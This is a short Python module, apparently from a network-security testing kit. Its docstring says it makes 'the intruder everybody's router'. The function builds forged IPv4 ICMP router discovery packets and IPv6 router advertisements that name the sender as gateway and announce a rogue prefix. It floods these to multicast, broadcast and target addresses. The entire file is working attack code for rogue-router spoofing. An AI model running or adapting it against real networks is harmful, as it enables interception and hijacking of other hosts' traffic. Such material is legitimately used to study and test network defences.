# SPDX-License-Identifier: Apache-2.0
"""Router advertisements (and ICMP router discovery) make the intruder everybody's router."""
from kit import *


def attack(pot, out, family):
    if family == 4:
        body = b"\1\2\0\x1e" + packed(pot.ip(4)) + b"\0\0\0\0"
        for dst in ("224.0.0.1", "255.255.255.255", out.ip(4)):
            pot.send(*[ethernet(BROADCAST, pot.mac, icmp(pot.ip(4), dst, 9, body, ttl=1))] * 20)
        return
    body = b"\x40\x08\x07\x08" + b"\0" * 8 + b"\1\1" + pot.mac + \
        b"\3\4\x40\xc0" + b"\0\1\0\0" * 2 + b"\0" * 4 + packed("2001:db8:bad::")
    for src in (pot.ip(6), pot.link_local(), out.host(6)):
        for dst in ("ff02::1", out.ip(6)):
            to = group(dst) if dst[0] == "f" and dst[1] == "f" else out.mac
            pot.send(*[ethernet(to, pot.mac, icmp(src, dst, 134, body, ttl=255))] * 20)
